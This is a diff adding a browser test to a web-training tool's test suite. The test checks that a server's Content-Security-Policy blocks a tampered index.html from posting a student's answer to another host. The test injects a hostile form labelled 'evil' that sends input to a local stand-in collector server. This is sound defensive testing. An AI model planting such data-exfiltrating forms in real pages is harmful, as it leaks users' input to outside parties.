@@ -801,6 +801,56 @@ def test_every_tampered_script_or_style_is_refused_by_name(dist, browser, tmp_pa
         stop(server)
 
 
+def test_the_host_policy_stops_a_form_that_would_send_the_answer_out(dist, browser, tmp_path):
+    """index.html edited to drop its own policy and watchdog and to wrap a text box in a form posting to another
+    server: kd-train serve's Content-Security-Policy header (form-action 'none') still stops it; nothing arrives.
+    (kd-train verify --digest refuses such a page: tests/test_build.py.)"""
+    import http.server
+    import re
+    import threading
+
+    arrived = []
+
+    class Collector(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            arrived.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+        do_POST = do_GET
+
+        def log_message(self, *args):
+            pass
+
+    collector = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Collector)
+    threading.Thread(target=collector.serve_forever, daemon=True).start()
+    copy = tmp_path / "dist"
+    shutil.copytree(dist, copy)
+    html = (copy / "index.html").read_text(encoding="utf-8")
+    html = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", html)
+    html = re.sub(r"<script>.*?</script>", "", html, flags=re.S)
+    html = html.replace('<main>', f'<main><form id="evil" method="get" action="http://127.0.0.1:{collector.server_address[1]}/collect">'
+                        '<input id="evil-a" name="a"><button id="evil-go">Send</button></form>')
+    (copy / "index.html").write_text(html, encoding="utf-8")
+    server, url = serve(copy)
+    context = browser.new_context()
+    try:
+        page = context.new_page()
+        page.goto(url)
+        page.evaluate("""() => { window.violations = []; document.addEventListener("securitypolicyviolation",
+          (e) => window.violations.push(e.effectiveDirective)); }""")
+        page.fill("#evil-a", "a student's answer")
+        page.click("#evil-go", no_wait_after=True)     # the navigation it schedules never happens
+        page.wait_for_function("() => window.violations.length > 0", timeout=30_000)
+        assert page.evaluate("() => window.violations") == ["form-action"]
+        assert arrived == [] and page.url == url
+    finally:
+        context.close()
+        stop(server)
+        collector.shutdown()
+        collector.server_close()
+
+
 def test_a_consistent_rewrite_of_a_scorer_shows_as_another_version(dist, browser, tmp_path):
     """scorer.json's score values reversed, manifest.json updated and index.html re-pinned to it: plain verify
     finds the files consistent, verify --digest refuses index.html, and the page refuses to start because the
